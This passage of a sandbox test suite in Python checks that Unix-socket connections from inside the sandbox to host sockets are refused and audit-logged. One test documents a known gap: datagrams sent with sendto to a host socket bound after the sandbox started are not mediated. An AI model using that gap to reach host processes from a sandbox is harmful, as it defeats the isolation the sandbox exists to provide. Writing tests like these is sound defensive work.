        if k.startswith("own") and k != "own symlink":
            if v != "connected: b'own'":
                problems.append("the sandbox's own socket (%s): %s" % (k, v))
        elif k == "backlog":
            if v != "waited, then connected":
                problems.append("a blocking connect to a full backlog: %s" % v)
        elif k == "absent":
            if v != "No such file or directory":
                problems.append("a socket path that does not exist: %s" % v)
        elif v != "refused: Permission denied":
            problems.append("%s: %s" % (k, v))
    with open(log) as f:
        lines = [json.loads(x) for x in f if '"unix-socket"' in x]
    if not any(x.get("path") == ws_sock for x in lines):
        problems.append("the audit log has no refusal for %s: %s" % (ws_sock, lines))
    assert not problems, "\n".join(problems) + "\n" + describe(r)


@known_gap("a datagram sent to a host's datagram socket bound in a grant after the sandbox "
           "started reaches it: connect is mediated, sendto/sendmsg are not "
           "(docs/threat-model.md)")
def test_host_unix_dgram_bound_later(ctx):
    """The sandbox waits for a host process to bind a datagram socket in the
    workspace after it started, then sends to it with sendto(2)."""
    import threading
    path = os.path.join(ctx.ws, "later-dgram.sock")
    go = os.path.join(ctx.ws, "go-dgram")
    code = ("import os, socket, time\n"
            "for _ in range(400):\n"
            "    if os.path.exists(%r): break\n"
            "    time.sleep(0.05)\n"
            "d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
            "try:\n"
            "    d.sendto(b'from-inside', %r); print('sent')\n"
            "except OSError as e:\n"
            "    print('refused', e.strerror)\n" % (go, path))
    res = {}
    t = threading.Thread(target=lambda: res.setdefault(
        "r", ctx.sandbox([INNER_PY, "-c", code], timeout=90)))
    t.start()
    time.sleep(1.5)
    dg = _HostSocket(ctx, path, dgram=True)
    ctx.host_file(go, "")
    t.join(120)
    r = res["r"]
    assert r.returncode == 0, describe(r)
    time.sleep(0.3)
    assert not dg.got, "the host's datagram socket bound after the start received %r " \
        "from inside (%s)" % (dg.got, r.stdout.strip())


def test_host_unix_socket_bound_later_ablated(ctx):
    """The test above can fail: without connect mediation (the test-only
    ablation build) a host socket bound after the start serves the sandbox."""
    ws_sock = os.path.join(ctx.ws, "later.sock")
    r = _run_later(ctx, [ws_sock], [(ws_sock, None)], ablate="connect")
    assert r.returncode == 0, r.stdout + r.stderr
    out = json.loads(r.stdout.strip().splitlines()[-1])
    assert out[ws_sock] == "connected: b'HOST-DAEMON\\n'", r.stdout + r.stderr
